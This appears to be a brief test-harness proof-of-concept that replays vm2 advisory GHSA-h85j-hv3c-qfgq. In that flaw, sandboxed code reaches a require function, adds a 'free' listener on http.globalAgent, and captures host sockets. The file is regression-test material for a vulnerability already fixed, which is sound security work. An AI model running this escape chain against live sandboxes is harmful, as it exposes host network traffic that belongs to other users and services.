// Source: vm2 advisory GHSA-h85j-hv3c-qfgq (test/ghsa/GHSA-h85j-hv3c-qfgq/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): `http.globalAgent` / `https.globalAgent` are host singletons; a sandbox listener on them saw every host socket.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: http.globalAgent.on('free', listener).
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    req('http').globalAgent.on('free', (socket) => __wr.use(socket, 'host socket'));
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
